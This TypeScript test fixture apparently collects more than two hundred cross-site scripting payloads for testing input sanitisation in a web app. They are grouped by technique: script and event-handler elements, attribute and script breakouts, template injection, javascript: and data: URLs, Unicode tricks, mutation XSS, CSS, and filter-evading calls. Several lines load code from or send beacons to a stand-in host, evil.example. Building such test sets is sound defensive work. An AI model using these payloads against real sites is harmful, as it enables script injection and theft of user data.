/*
 * What attackers write into fields. Each text calls `canary`, a function of the tests' pages, or opens a dialog of the
 * browser. Each is short enough for a name (60 characters) if its shape allows it.
 */

/** Elements that run code as soon as they are parsed. */
const ELEMENTS = [
  '<script>canary(1)</script>',
  '<ScRiPt>canary(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script src="data:text/javascript,canary(1)"></script>',
  '<script type=module>canary(1)</script>',
  '<script\x0ctype="text/javascript">canary(1)</script>',
  '<script/xss>canary(1)</script>',
  '<scr<script>ipt>canary(1)</scr</script>ipt>',
  '<script>canary(1)//',
  '<<script>canary(1)//<</script>',
  '<img src=x onerror=canary(1)>',
  '<img src=x onerror="canary(1)"',
  '<img/src=x/onerror=canary(1)>',
  '<img src=x:x onerror\n=canary(1)>',
  '<img src=x onerror=&#99;&#97;nary(1)>',
  '<img src=x onerror=\\u0063anary(1)>',
  '<img """><script>canary(1)</script>">',
  '<image src=x onerror=canary(1)>',
  '<svg onload=canary(1)>',
  '<svg/onload=canary(1)>',
  '<svg><script>canary(1)</script></svg>',
  '<svg><script>canary&#40;1&#41;</script>',
  '<svg><animate onbegin=canary(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:canary(1)>',
  '<svg><a xlink:href=javascript:canary(1)><text y=9>x</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x />#x">',
  '<svg><style><img src=x onerror=canary(1)></style>',
  '<svg><foreignObject><iframe onload=canary(1)>',
  '<math><mtext><img src=x onerror=canary(1)>',
  '<math href=javascript:canary(1)>x</math>',
  '<body onload=canary(1)>',
  '<body onpageshow=canary(1)>',
  '<body onhashchange=canary(1)>',
  '<iframe src=javascript:canary(1)>',
  '<iframe srcdoc="<script>parent.canary(1)</script>">',
  '<iframe onload=canary(1)>',
  '<frameset onload=canary(1)>',
  '<object data=javascript:canary(1)>',
  '<object data="data:text/html,<script>canary(1)</script>">',
  '<embed src=javascript:canary(1)>',
  '<embed src="data:text/html,<script>canary(1)</script>">',
  '<video src=x onerror=canary(1)>',
  '<video><source onerror=canary(1)></video>',
  '<audio src=x onerror=canary(1)>',
  '<details open ontoggle=canary(1)>x',
  '<input autofocus onfocus=canary(1)>',
  '<select autofocus onfocus=canary(1)>',
  '<textarea autofocus onfocus=canary(1)>',
  '<keygen autofocus onfocus=canary(1)>',
  '<button popovertarget=x autofocus onfocus=canary(1)>x',
  '<x contenteditable autofocus onfocus=canary(1)>x',
  '<marquee onstart=canary(1)>x</marquee>',
  '<style onload=canary(1)></style>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=stylesheet href=x onerror=canary(1)>',
  '<link rel=import href="data:text/html,<script>canary(1)">',
  '<meta http-equiv=refresh content="0;url=javascript:canary(1)">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<form action=javascript:canary(1)><input type=submit>',
  '<form><button formaction=javascript:canary(1)>x',
  '<isindex type=image src=1 onerror=canary(1)>',
  '<applet code=canary(1)>',
  '<portal src=javascript:canary(1)>',
  '<xss-canary></xss-canary>',
  '<dialog open onclose=canary(1)><form method=dialog>',
  '<template><script>canary(1)</script></template>',
  '<template shadowrootmode=open><script>canary(1)</script>',
]

/** Handlers that a style, an animation or a gesture triggers. */
const HANDLERS = ['onanimationstart', 'ontransitionend', 'onmouseover', 'onpointerenter', 'onpointerrawupdate', 'onfocusin', 'onscroll', 'onscrollend', 'onwheel', 'onbeforetoggle', 'oncontentvisibilityautostatechange', 'onauxclick', 'onbeforeinput', 'oncuechange', 'onsecuritypolicyviolation', 'onslotchange', 'onunhandledrejection', 'onmessage', 'onpopstate', 'onresize'].map(
  name => `<p ${name}=canary(1)>x`,
)

/** Ways out of an attribute, a text, a comment, or a script that contains the words. */
const BREAKOUTS = [
  '"><script>canary(1)</script>',
  "'><script>canary(1)</script>",
  '`><script>canary(1)</script>',
  '"><img src=x onerror=canary(1)>',
  "'><img src=x onerror=canary(1)>",
  '" autofocus onfocus="canary(1)',
  "' autofocus onfocus='canary(1)",
  '" onmouseover=canary(1) x="',
  '" style="animation:x" onanimationstart="canary(1)',
  '"><svg onload=canary(1)>',
  '--><script>canary(1)</script>',
  '--!><script>canary(1)</script>',
  '<!--><script>canary(1)</script>-->',
  ']]><script>canary(1)</script>',
  '<![CDATA[<script>canary(1)</script>]]>',
  '<?xml version="1.0"?><script>canary(1)</script>',
  '</title><script>canary(1)</script>',
  '</textarea><script>canary(1)</script>',
  '</style><script>canary(1)</script>',
  '</noscript><script>canary(1)</script>',
  '</template><script>canary(1)</script>',
  '</select><script>canary(1)</script>',
  '</option></select><img src=x onerror=canary(1)>',
  '</script><script>canary(1)</script>',
  '</script ><script>canary(1)</script>',
  '</script\t/x><script>canary(1)</script>',
  '</SCRIPT><svg onload=canary(1)>',
  '</script><!--<script>canary(1)</script>',
  '<!--<script>',
  '<!--<script></script><script>canary(1)</script>-->',
  '"}</script><script>canary(1)</script>',
  '"}]}</script><svg/onload=canary(1)>',
  '","@type":"Thing","url":"javascript:canary(1)',
  '\\"}</script><script>canary(1)//',
  '";canary(1);//',
  "';canary(1);//",
  '\\";canary(1);//',
  "\\';canary(1);//",
  '`;canary(1);//',
  '${canary(1)}',
  '`${canary(1)}`',
  '"+canary(1)+"',
  "'-canary(1)-'",
  '\u2028canary(1)\u2028',
  '\u2029canary(1)//',
  '*/canary(1)/*',
  '"]);canary(1);self.__next_f.push([1,"',
  '"])</script><script>canary(1)</script>',
  '1:["$","script",null,{"children":"canary(1)"}]',
  '0:{"a":"$@1","f":"$undefined"}\n',
  '$L1',
  '$@1',
  '$F1',
  '$$typeof',
  '["$","img",null,{"src":"x","onError":"canary(1)"}]',
  '{"__html":"<img src=x onerror=canary(1)>"}',
  '{"dangerouslySetInnerHTML":{"__html":"<svg onload=canary(1)>"}}',
  '{"$$typeof":"Symbol(react.element)","type":"script"}',
]

/** Template languages that might evaluate their own output. */
const TEMPLATES = ['{{canary(1)}}', '{{constructor.constructor("canary(1)")()}}', "{{'a'.constructor.prototype.charAt=[].join}}", '[[canary(1)]]', '<%= canary(1) %>', '#{canary(1)}', '${{canary(1)}}', '@{canary(1)}', '{%print canary(1)%}', '{canary}', '{name, select, x {<script>canary(1)</script>}}', '{count, plural, other {<b>#</b>}}', "'{'<script>canary(1)</script>'}'", '<b>{name}</b>', '<link>canary</link>', '%3Cscript%3Ecanary(1)%3C/script%3E', '%253Cscript%253Ecanary(1)%253C/script%253E', '&lt;script&gt;canary(1)&lt;/script&gt;', '&#60;script&#62;canary(1)&#60;/script&#62;', '&#x3C;script&#x3E;canary(1)&#x3C;/script&#x3E;', '\\u003cscript\\u003ecanary(1)\\u003c/script\\u003e', '\\x3cscript\\x3ecanary(1)\\x3c/script\\x3e', '+ADw-script+AD4-canary(1)+ADw-/script+AD4-']

/** Texts in the shape of an address. */
const ADDRESSES = ['javascript:canary(1)', 'JaVaScRiPt:canary(1)', 'java\tscript:canary(1)', 'java\nscript:canary(1)', '\x01javascript:canary(1)', ' javascript:canary(1)', 'javascript&colon;canary(1)', 'javascript&#58;canary(1)', 'javascript://evil.example/%0acanary(1)', 'javascript:/*--></title></style></textarea>*/canary(1)', 'vbscript:canary(1)', 'data:text/html,<script>canary(1)</script>', 'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=', 'data:image/svg+xml,<svg onload=canary(1)>', 'blob:https://evil.example/x', '//evil.example/x', 'https://evil.example/"onmouseover=canary(1)', 'http://a"onclick=canary(1)//.example', '[x](javascript:canary(1))', '![x](x"onerror="canary(1))', '<javascript:canary(1)>', 'mailto:a@b.example?subject=<script>canary(1)</script>', 'tel:<img src=x onerror=canary(1)>', 'intent://x#Intent;scheme=javascript;end']

/** Letters that are cut, reversed, folded or normalized on their way. */
const LETTERS = ['\u202e>tpircs/<)1(yranac>tpircs<', '\u2066<script>\u2069canary(1)</script>', '\u200b<script>\u200bcanary(1)</script>', '\ufeff<script>canary(1)</script>', '＜script＞canary(1)＜/script＞', '﹤img src=x onerror=canary(1)﹥', '‹script›canary(1)‹/script›', 'ʺ＞<svg onload=canary(1)>', '\u0130<script>canary(1)</script>', '<ſcript>canary(1)</ſcript>', '<\u017fvg onload=canary(1)>', '<img src=x onerror=ｃanary(1)>', 'भैंस<script>canary(1)</script>', 'எருமை"><svg onload=canary(1)>', 'ਮੱਝ<img src=x onerror=canary(1)>', '🐄<svg onload=canary(1)>🐃', '\ud83d<script>canary(1)</script>', 'a\u0300\u0301\u0302<svg onload=canary(1)>', '\x7f<script>canary(1)</script>', '\x1b]0;canary\x07<script>canary(1)</script>', '<a\u00a0onclick=canary(1)>x</a>', '<img\u3000src=x\u3000onerror=canary(1)>']

/** Texts that change when a browser serializes and parses them again. */
const MUTATIONS = ['<noscript><p title="</noscript><img src=x onerror=canary(1)>">', '<listing>&lt;img src=x onerror=canary(1)&gt;</listing>', '<xmp><p title="</xmp><svg onload=canary(1)>">', '<svg></p><style><a id="</style><img src=x onerror=canary(1)>">', '<math><mtext><table><mglyph><style><img src=x onerror=canary(1)>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary(1)>', '<table><a href=javascript:canary(1)>x', '<p id="`><img src=x onerror=canary(1)>">', '<a href="``onmouseover=canary(1)">x</a>', '<style><!--</style><script>canary(1)//--></script>', '<title><a title="</title><img src=x onerror=canary(1)>">', '<select><template><style><!--</style><a rel="--></style></template><svg onload=canary(1)>">']

/** Styles that load or run something if a text becomes a style. */
const STYLES = ['background:url(javascript:canary(1))', '</style><svg onload=canary(1)>', 'expression(canary(1))', '};*{background:url(//evil.example/x)}', '<p style="background:url(//evil.example/x)">', '<p style="behavior:url(x.htc)">', '@import url(//evil.example/x.css);', '<p style=position:fixed;inset:0;z-index:9e9>x']

/** Calls that a filter for `canary` and brackets would miss. */
const CALLS = ['<img src=x onerror=alert(1)>', '<img src=x onerror=prompt`1`>', '<svg onload=confirm(1)>', '<svg onload=top["canary"](1)>', '<svg onload=self["can"+"ary"](1)>', '<svg onload=setTimeout("canary(1)")>', '<svg onload=eval(atob("Y2FuYXJ5KDEp"))>', '<svg onload=import("//evil.example/x.js")>', '<svg onload=location="javascript:canary(1)">', '<svg onload=fetch("//evil.example")>', '<svg onload=navigator.sendBeacon("//evil.example")>', '<svg onload=throw/a/,onerror=canary>']

/** More than two hundred, all different. */
export const XSS_STRINGS: readonly string[] = [...new Set([...ELEMENTS, ...HANDLERS, ...BREAKOUTS, ...TEMPLATES, ...ADDRESSES, ...LETTERS, ...MUTATIONS, ...STYLES, ...CALLS])]

/**
 * Several in one text, as many as fit: what one opens, the next may close.
 * @param most characters of a text
 */
export function xssTexts(most: number, between = ' '): string[] {
  const texts: string[] = []
  for (const string of XSS_STRINGS) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + between.length + string.length <= most) texts[texts.length - 1] = last + between + string
    else texts.push(string.slice(0, most))
  }
  return texts
}
